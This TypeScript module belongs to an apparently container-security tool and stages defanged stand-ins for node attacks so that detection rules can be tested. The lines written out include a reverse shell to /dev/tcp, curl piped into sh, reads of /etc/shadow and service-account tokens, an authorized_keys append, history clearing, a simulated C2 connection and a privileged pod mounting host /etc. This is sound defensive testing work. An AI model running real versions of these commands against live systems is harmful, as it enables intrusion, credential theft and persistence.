/**
 * Harmless stand-ins for node attacks, for `vigil simulate --node`. The
 * process-level ones run inside a throwaway cgroup named like a container
 * (all the sensor needs to treat them as a container's processes), as
 * programs named like the attacker's tools but doing nothing (links to
 * /bin/true, a copy of /bin/sh called nginx); connections go to addresses
 * placed on the loopback of a network namespace made for the purpose, so
 * nothing leaves the machine. The container-level ones (a privileged
 * container, a sensitive host mount) need a real container: one is started
 * through the CRI, read-only and sleeping, then removed. Nothing is left
 * behind: the cgroup, the stand-ins, the temporary feed and the pod go.
 */
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { VigilError } from '../../../proto/errors';
import { criCall, criRuntimeClient, findCriSocket } from '../../../proto/cri-runtime';
import type { ListContainersResponse__Output } from '../../../proto/generated/runtime/v1/ListContainersResponse';
import { makeDir } from '../../../proto/make-dir';

/** Where cgroup2 is mounted (/sys/fs/cgroup, or /sys/fs/cgroup/unified on hybrid hosts). */
export function cgroup2Mount(): string {
  for (const line of fs.readFileSync('/proc/self/mountinfo', 'utf8').split('\n')) {
    const [pre, post] = line.split(' - ');
    if (post?.startsWith('cgroup2 ')) return pre.split(' ')[4];
  }
  throw new VigilError('UNAVAILABLE', 'no cgroup2 hierarchy is mounted: vigil simulate --node needs one');
}

/** A public address no one uses for anything of ours, put in a temporary feed and on a namespace's loopback. */
export const SIMULATED_C2 = '203.0.114.1';

/** Where the process stand-ins run, and the files they need. */
export interface SimulationSite {
  /** Id of the fake container: its cgroup's name. */
  id: string;
  procs: string;
  tools: string;
  /** The control plane's intel directory (the temporary feed goes there). */
  intelDir: string;
  suffix: string;
  /** When the control plane has surely read the temporary feed (it looks for changes every 2 s). */
  feedReadAt: number;
}

export interface NodeAttack {
  ruleId: string;
  what: string;
  /** Runs the stand-in; returns why it could not, or undefined when it ran. */
  run(site: SimulationSite): string | undefined;
}

function has(program: string): boolean {
  return spawnSync('sh', ['-c', `command -v ${program}`], { stdio: 'ignore' }).status === 0;
}

/** Runs `command` (sh syntax) as a process of the fake container. */
function inContainer(site: SimulationSite, command: string, tty = false): string | undefined {
  const line = `echo $$ > ${site.procs} && exec ${command}`;
  const r = tty ? spawnSync('script', ['-qec', line, '/dev/null'], { stdio: 'ignore' }) : spawnSync('/bin/sh', ['-c', line], { stdio: 'ignore' });
  return r.error ? r.error.message : undefined;
}

/**
 * Runs `command` (sh syntax, $D naming `dir`) in the fake container, in a
 * mount namespace of its own with a tmpfs over `dir`: what it writes
 * vanishes with it. A directory it had to create on the node is removed.
 */
function inPrivateMount(site: SimulationSite, dir: string, command: string): string | undefined {
  if (!has('unshare')) return 'needs unshare (util-linux)';
  const missing: string[] = [];
  for (let d = dir; d !== '/' && !fs.existsSync(d); d = path.dirname(d)) missing.push(d);
  try {
    return inContainer(site, `unshare -m --propagation private sh -c 'mkdir -p ${dir} && mount -t tmpfs simulated ${dir} && D=${dir} && ${command}; :'`);
  } finally {
    // Deepest first, each only if nothing else was put there meanwhile.
    for (const d of missing) if (fs.existsSync(d) && fs.readdirSync(d).length === 0) fs.rmdirSync(d);
  }
}

/** A connection from the fake container to `address`, which sits on the loopback of a fresh network namespace. */
function connectInNamespace(site: SimulationSite, address: string, port: number): string | undefined {
  if (!has('unshare') || !has('ip')) return 'needs unshare (util-linux) and ip (iproute2)';
  const connect = `const s=require('net').connect(${port},'${address}');s.on('error',()=>{});s.on('connect',()=>s.destroy());setTimeout(()=>process.exit(0),300)`;
  return inContainer(site, `unshare -n sh -c "ip link set lo up && ip addr add ${address}/32 dev lo && '${process.execPath}' -e \\"${connect}\\""`);
}

export const NODE_ATTACKS: NodeAttack[] = [
  {
    ruleId: 'web-shell-activity',
    what: 'a web server (a copy of /bin/sh named nginx) running id through a shell',
    // `; :` keeps each shell from exec-ing its last command in place, so the chain stays nginx → sh → id.
    run: (s) => inContainer(s, `${s.tools}/nginx -c '/bin/sh -c "id >/dev/null; :"; :'`),
  },
  {
    ruleId: 'reverse-shell',
    what: 'a shell whose command line wires an interactive shell to /dev/tcp, after an exit: nothing runs or connects',
    // A bare redirection to /dev/tcp is a port check, not a reverse shell: the line must hand a shell the socket.
    run: (s) => inContainer(s, `/bin/sh -c 'exit 0; sh -i >/dev/tcp/127.0.0.1/9 0>&1'`),
  },
  {
    ruleId: 'shell-in-container',
    what: 'a shell started in a container by a program other than its entrypoint',
    run: (s) => inContainer(s, '/bin/sh -c "id >/dev/null; :"'),
  },
  {
    ruleId: 'terminal-shell-in-container',
    what: 'an interactive shell with a terminal in a container (script(1) allocates the pty)',
    run: (s) => (has('script') ? inContainer(s, '/bin/sh -c true', true) : 'needs script (util-linux)'),
  },
  {
    ruleId: 'crypto-mining',
    what: 'a program named xmrig given a stratum pool URL (it is /bin/true)',
    run: (s) => inContainer(s, `${s.tools}/xmrig -o stratum+tcp://127.0.0.1:3333 -u simulated`),
  },
  {
    ruleId: 'container-escape-tool',
    what: 'nsenter run in a container (it is /bin/true)',
    run: (s) => inContainer(s, `${s.tools}/nsenter --target 1 --mount true`),
  },
  {
    ruleId: 'sensitive-mount-in-container',
    what: 'proc mounted in a container, inside a private mount namespace that vanishes with it',
    run: (s) => (has('unshare') ? inContainer(s, `unshare -m --propagation private sh -c 'd=/tmp/vigil-simulate-${s.suffix}; mkdir -p $d && mount -t proc proc $d && umount $d; rmdir $d; true'`) : 'needs unshare (util-linux)'),
  },
  {
    ruleId: 'api-server-access-from-container',
    what: "a shell reading the pod's service-account token (there is none here)",
    run: (s) => inContainer(s, `/bin/sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null; true'`),
  },
  {
    ruleId: 'cluster-client-in-container',
    what: 'kubectl run in a container (it is /bin/true)',
    run: (s) => inContainer(s, `${s.tools}/kubectl get secrets --all-namespaces`),
  },
  {
    ruleId: 'ssh-server-in-container',
    what: 'sshd started in a container (it is /bin/true)',
    run: (s) => inContainer(s, `${s.tools}/sshd -D`),
  },
  {
    ruleId: 'download-and-execute',
    what: 'a download piped into a shell (from 127.0.0.1:9, where nothing listens)',
    run: (s) => inContainer(s, `/bin/sh -c 'curl -s --max-time 1 http://127.0.0.1:9/x 2>/dev/null | sh; true'`),
  },
  {
    ruleId: 'package-manager-in-container',
    what: 'apt-get install in a running container (it is /bin/true)',
    run: (s) => inContainer(s, `${s.tools}/apt-get install -y vigil-simulated`),
  },
  {
    ruleId: 'cloud-metadata-access',
    what: 'a connection to 169.254.169.254, on the loopback of a throwaway network namespace',
    run: (s) => connectInNamespace(s, '169.254.169.254', 80),
  },
  {
    ruleId: 'binary-not-in-image',
    what: 'a binary copied into /tmp at run time and executed there (a copy of /bin/true)',
    run: (s) => inContainer(s, `${s.tools}/dropped-tool`),
  },
  {
    ruleId: 'fileless-execution',
    what: 'a copy of /bin/true deleted while open, then executed through /proc/self/fd',
    run: (s) => inContainer(s, `/bin/sh -c 'cp /bin/true ${s.tools}/gone && exec 3<${s.tools}/gone && rm ${s.tools}/gone && /proc/self/fd/3; :'`),
  },
  {
    ruleId: 'service-account-token-read',
    what: 'a shell reading a service-account token, on a tmpfs in a throwaway mount namespace',
    run: (s) => inPrivateMount(s, '/run/secrets/kubernetes.io/serviceaccount', 'echo simulated > $D/token && cat $D/token >/dev/null'),
  },
  {
    ruleId: 'credentials-read-in-container',
    what: 'cat of /etc/shadow in a container (read to /dev/null)',
    run: (s) => inContainer(s, `/bin/sh -c 'cat /etc/shadow >/dev/null 2>&1; :'`),
  },
  {
    ruleId: 'shell-history-cleared',
    what: "rm of root's .bash_history, on a tmpfs over /root in a throwaway mount namespace (the real one is untouched)",
    run: (s) => inPrivateMount(s, '/root', 'touch $D/.bash_history && rm $D/.bash_history'),
  },
  {
    ruleId: 'ssh-authorized-keys-modified',
    what: "a key appended to root's authorized_keys, on a tmpfs over /root in a throwaway mount namespace (the real one is untouched)",
    run: (s) => inPrivateMount(s, '/root', 'mkdir -p $D/.ssh && echo "ssh-ed25519 AAAA vigil-simulated" >> $D/.ssh/authorized_keys'),
  },
  {
    ruleId: 'runtime-socket-from-container',
    what: "an open of containerd's socket path from a container (it fails: a socket is not read that way)",
    run: (s) => inContainer(s, `/bin/sh -c 'cat /run/containerd/containerd.sock >/dev/null 2>&1; :'`),
  },
  {
    ruleId: 'malicious-ip-connection',
    what: `a connection to ${SIMULATED_C2}, listed by a temporary feed and on the loopback of a throwaway network namespace`,
    run: (s) => {
      const wait = s.feedReadAt - Date.now();
      if (wait > 0) spawnSync('sleep', [String(wait / 1000)]);
      return connectInNamespace(s, SIMULATED_C2, 443);
    },
  },
];

/** The fake container, its stand-in programs and the temporary feed, with a way to remove them all. */
export function simulationSite(dataDir: string): SimulationSite & { remove(): void } {
  const suffix = randomBytes(4).toString('hex');
  const id = randomBytes(32).toString('hex');
  const parent = path.join(cgroup2Mount(), `vigil-simulate-${process.pid}`);
  const dir = path.join(parent, id);
  makeDir(dir);
  const tools = fs.mkdtempSync(path.join(os.tmpdir(), 'vigil-simulate-'));
  for (const name of ['xmrig', 'nsenter', 'kubectl', 'sshd', 'apt-get']) fs.symlinkSync('/bin/true', path.join(tools, name));
  fs.copyFileSync('/bin/sh', path.join(tools, 'nginx'));
  fs.chmodSync(path.join(tools, 'nginx'), 0o755);
  fs.copyFileSync('/bin/true', path.join(tools, 'dropped-tool'));
  fs.chmodSync(path.join(tools, 'dropped-tool'), 0o755);
  const intelDir = path.join(dataDir, 'intel');
  makeDir(intelDir, 0o700);
  const feed = path.join(intelDir, `vigil-simulate-${suffix}.txt`);
  fs.writeFileSync(feed, `# vigil simulate --node: removed when the simulation ends\n${SIMULATED_C2}\n`);
  return {
    id,
    procs: path.join(dir, 'cgroup.procs'),
    tools,
    intelDir,
    suffix,
    feedReadAt: Date.now() + 2500,
    remove() {
      fs.rmSync(tools, { recursive: true, force: true });
      fs.rmSync(feed, { force: true });
      for (const d of [dir, parent])
        for (let i = 0; i < 50; i++)
          try {
            fs.rmdirSync(d);
            break;
          } catch {
            spawnSync('sleep', ['0.05']);
          }
    },
  };
}

/** The container-level rules: what a privileged pod mounting /etc raises. */
export const CONTAINER_RULES = ['privileged-container-started', 'sensitive-host-mount-started'];

export interface SimulatedPod {
  containerId: string;
  image: string;
  remove(): Promise<void>;
}

/** Images the runtime already has, shells most likely first: no pull ever happens. */
async function candidateImages(client: ReturnType<typeof criRuntimeClient>, wanted?: string): Promise<string[]> {
  if (wanted) return [wanted];
  const { containers } = await criCall<ListContainersResponse__Output>(client, 'ListContainers', {});
  const images = [...new Set(containers.map((c) => c.image?.image ?? '').filter(Boolean))];
  const shellFirst = (i: string) => (/busybox|alpine|debian|ubuntu|fedora|centos|rocky|nginx|python|node|ruby|golang/.test(i) ? 0 : 1);
  return images.sort((a, b) => shellFirst(a) - shellFirst(b)).slice(0, 3);
}

/**
 * Starts a privileged container with the node's /etc mounted read-only,
 * sleeping, through the CRI; the reason instead when it cannot.
 */
export async function simulatedPrivilegedPod(criSocket: string | undefined, image: string | undefined): Promise<SimulatedPod | string> {
  const socket = criSocket ?? findCriSocket();
  if (!socket) return 'needs a container runtime (CRI socket; give --cri-socket)';
  const client = criRuntimeClient(socket);
  const uid = randomBytes(8).toString('hex');
  const sandbox = {
    metadata: { name: `vigil-simulate-${uid}`, uid, namespace: 'vigil-simulate' },
    linux: { security_context: { privileged: true, namespace_options: { network: 'NODE', pid: 'CONTAINER', ipc: 'POD' } } },
  };
  let podId: string | undefined;
  const remove = async (containerId?: string) => {
    if (containerId) await criCall(client, 'RemoveContainer', { container_id: containerId }).catch(() => undefined);
    if (podId) {
      await criCall(client, 'StopPodSandbox', { pod_sandbox_id: podId }).catch(() => undefined);
      await criCall(client, 'RemovePodSandbox', { pod_sandbox_id: podId }).catch(() => undefined);
    }
    client.close();
  };
  try {
    const images = await candidateImages(client, image);
    if (images.length === 0) return 'the runtime has no image to start a container from (give --image)';
    ({ pod_sandbox_id: podId } = await criCall<{ pod_sandbox_id: string }>(client, 'RunPodSandbox', { config: sandbox }, 60_000));
    const errors: string[] = [];
    for (const img of images) {
      try {
        const { container_id: containerId } = await criCall<{ container_id: string }>(client, 'CreateContainer', {
          pod_sandbox_id: podId,
          sandbox_config: sandbox,
          config: {
            metadata: { name: 'simulated' },
            image: { image: img },
            command: ['/bin/sh', '-c', 'sleep 30'],
            mounts: [{ host_path: '/etc', container_path: '/host-etc', readonly: true }],
            linux: { security_context: { privileged: true, readonly_rootfs: true, namespace_options: { network: 'NODE', pid: 'CONTAINER', ipc: 'POD' } } },
          },
        });
        await criCall(client, 'StartContainer', { container_id: containerId });
        return {
          containerId,
          image: img,
          remove: async () => {
            await criCall(client, 'StopContainer', { container_id: containerId, timeout: 0 }).catch(() => undefined);
            await remove(containerId);
          },
        };
      } catch (err) {
        errors.push(`${img}: ${(err as { details?: string }).details ?? (err as Error).message}`);
      }
    }
    await remove();
    return `no image could start a container (${errors.join('; ')}); give --image with one that has /bin/sh`;
  } catch (err) {
    await remove();
    return `the runtime at ${socket} refused: ${(err as { details?: string }).details ?? (err as Error).message}`;
  }
}
